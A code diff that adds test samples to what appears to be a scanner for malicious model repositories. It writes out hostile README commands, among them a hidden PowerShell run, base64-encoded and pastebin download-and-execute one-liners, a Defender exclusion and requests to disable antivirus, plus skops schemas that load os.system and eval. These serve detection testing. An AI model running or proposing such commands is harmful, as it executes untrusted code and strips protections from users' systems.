@@ -72,6 +72,19 @@ def samples() -> Iterator[Sample]:
     packed = b"<< /Filter /FlateDecode >>\nstream\n" + zlib.compress(b"<< /S /JavaScript >>") + b"\nendstream"
     yield careful("document", "script, packed", "paper.pdf", pdf.replace(b"{}", packed))
     yield benign("document", "text", "paper.pdf", pdf.replace(b"{}", b"/OpenAction [3 0 R /Fit]"))
+    for case, line in {
+        "hidden": "powershell -WindowStyle Hidden -File setup.ps1",
+        "encoded": "echo Y3VybCBodHRwczovL2ZpbGVzLmludmFsaWQ= | base64 -d | sh",
+        "paste host": "iwr https://pastebin.com/raw/x | iex",
+        "exclusion": "Add-MpPreference -ExclusionPath C:\\models",
+    }.items():
+        yield high("readme", case, "README.md", f"# Model\n\nFirst run:\n\n```powershell\n{line}\n```\n")
+    yield high("readme", "antivirus", "README.md", "# Model\n\nPlease disable Windows Defender before you start.\n")
+    yield high("readme", "in a text", "INSTALL.txt", "Please turn off your antivirus first.\n")
+    yield careful(
+        "readme", "download and run", "README.md", "# Model\n\n    curl -s https://files.invalid/a.sh | bash\n"
+    )
+    yield careful("readme", "password", "README.md", "# Model\n\nThe archive password is 1234.\n")
     yield from _names()
     yield from _archives()
     yield from _configurations()
@@ -145,6 +158,14 @@ def _gzip_bomb() -> bytes:
 
 
 def _configurations() -> Iterator[Sample]:
+    for module, name, label in (("os", "system", high), ("builtins", "eval", high), ("acme.tools", "Thing", careful)):
+        node = {"__class__": name, "__module__": module, "__loader__": "FunctionNode", "content": {}}
+        schema = json.dumps(
+            {"__class__": "dict", "__module__": "builtins", "__loader__": "DictNode", "content": {"a": node}}
+        )
+        yield label("skops", f"{module}.{name}", "model.skops", zipped(Member("schema.json", schema.encode())))
+    pointer = "version https://git-lfs.github.com/spec/v1\noid sha256:" + "a" * 64 + "\nsize 123\n"
+    yield careful("pointer", "in place of weights", "model.safetensors", pointer)
     base = {"architectures": ["LlamaForCausalLM"], "hidden_size": 64, "model_type": "llama"}
     for key, value in {
         "_attn_implementation_internal": "someone/kernels",
